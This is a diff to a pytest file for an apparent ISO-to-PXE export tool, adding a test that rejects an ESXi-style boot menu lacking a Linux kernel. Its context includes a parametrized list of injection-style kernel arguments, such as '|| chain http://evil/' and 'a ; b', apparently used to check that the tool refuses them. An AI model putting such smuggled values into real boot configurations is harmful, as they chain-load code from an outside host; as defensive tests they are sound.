@@ -120,6 +120,13 @@ def test_hypervisors(tmp_path: Path, menu: tuple[str, str], capsys: pytest.Captu
     assert not (tmp_path / "no").exists()
 
 
+def test_esxi_is_no_entry(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    menu = "LABEL install\n  KERNEL mboot.c32\n  APPEND -c boot.cfg\n"
+    iso = make(tmp_path, {"isolinux.cfg": menu, "boot.cfg": "kernel=/b\nmodules=/c\n"}, {"vmlinuz": b"none"})
+    assert main(["export", str(iso), "--pxe", str(tmp_path / "no")]) == 6
+    assert "has no Linux kernel" in capsys.readouterr().err
+
+
 @pytest.mark.parametrize("argument", [
     "|| chain http://evil/", "a && b", "${net0/mac}", "x=${y}", "a ; b", "a #b", 'a="b  c"', 'a="b || c"', "a=\x01b",
 ])  # fmt: skip
